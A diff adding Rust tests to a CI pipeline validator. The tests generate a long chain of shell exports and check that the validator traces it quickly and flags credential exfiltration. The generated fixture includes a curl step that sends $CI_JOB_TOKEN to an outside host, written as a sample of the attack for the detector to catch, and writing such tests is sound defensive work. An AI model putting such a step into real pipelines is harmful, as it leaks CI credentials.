@@ -71,3 +71,68 @@ fn reference_bomb_is_refused_by_its_budget() {
     }
     assert_refused(&text, "yaml-alias-budget");
 }
+
+/// A job passing `$CI_JOB_TOKEN` down `lines` exports to a `curl` outside; `reversed` writes
+/// the last export first, the order that made the old fixpoint read every line once per line.
+fn export_chain(lines: usize, reversed: bool) -> String {
+    let mut exports: Vec<String> = (1..lines)
+        .map(|i| format!("    - export V{i}=\"$V{}\"\n", i - 1))
+        .collect();
+    if reversed {
+        exports.reverse();
+    }
+    let mut t = String::from(
+        "stages: [test]\njob:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/apm-repo/demo/alpine:3.20\n  script:\n    - export V0=\"$CI_JOB_TOKEN\"\n",
+    );
+    t.extend(exports);
+    t.push_str(&format!(
+        "    - 'curl -H \"X-Token: $V{}\" https://collector.example.com'\n",
+        lines - 1
+    ));
+    t
+}
+
+#[test]
+fn a_six_thousand_line_export_chain_is_traced_in_either_order() {
+    // Quadratic tracing took minutes here (2,000 reversed lines: 9 s in release); linear
+    // takes well under a second. The bound is loose for slow debug builds on a busy machine.
+    for reversed in [false, true] {
+        let text = export_chain(6_000, reversed);
+        let started = Instant::now();
+        let findings = validate_pipeline(&text, &ValidatorSettings::default());
+        let elapsed = started.elapsed();
+        let exfil: Vec<_> = findings
+            .iter()
+            .filter(|f| f.rule == "credential-exfiltration")
+            .collect();
+        assert_eq!(exfil.len(), 1, "reversed={reversed}: {findings:#?}");
+        assert!(
+            exfil[0].message.contains("$V5999 (from $CI_JOB_TOKEN)"),
+            "{}",
+            exfil[0].message
+        );
+        assert!(
+            elapsed < Duration::from_secs(20),
+            "reversed={reversed}: {elapsed:?}"
+        );
+    }
+}
+
+#[test]
+fn cancelled_tracing_stops_early() {
+    use std::sync::atomic::{AtomicBool, Ordering};
+    use std::sync::Arc;
+    let text = export_chain(2_000, true);
+    let flag = Arc::new(AtomicBool::new(false));
+    flag.store(true, Ordering::Relaxed);
+    let findings = pipewright_core::cancel::with_flag(flag, || {
+        validate_pipeline(&text, &ValidatorSettings::default())
+    });
+    assert!(
+        !findings.iter().any(|f| f.rule == "credential-exfiltration"),
+        "the tracing stopped before reaching the curl: {findings:#?}"
+    );
+    // Outside the flag nothing is cancelled.
+    let findings = validate_pipeline(&text, &ValidatorSettings::default());
+    assert!(findings.iter().any(|f| f.rule == "credential-exfiltration"));
+}
